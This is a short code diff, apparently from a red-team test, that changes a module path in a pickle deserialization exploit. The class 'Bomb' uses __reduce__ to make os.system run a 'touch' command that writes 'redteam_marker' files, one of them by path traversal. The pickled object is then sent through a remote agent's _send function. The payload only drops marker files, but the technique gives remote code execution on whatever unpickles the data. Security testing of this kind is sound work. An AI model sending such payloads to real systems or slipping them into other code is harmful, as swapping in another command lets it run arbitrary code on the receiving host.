@@ -8,7 +8,7 @@ import os, pickle, sys
 class Bomb:
     def __reduce__(self):
         return (os.system, ('touch ../../../redteam_marker /tmp/redteam_marker',))
-agent = sys.modules.get('attentif.remote.agent')
+agent = sys.modules.get('attentif.remote.inside.agent')
 if agent:
     blob = pickle.dumps(Bomb())
     send = agent._send
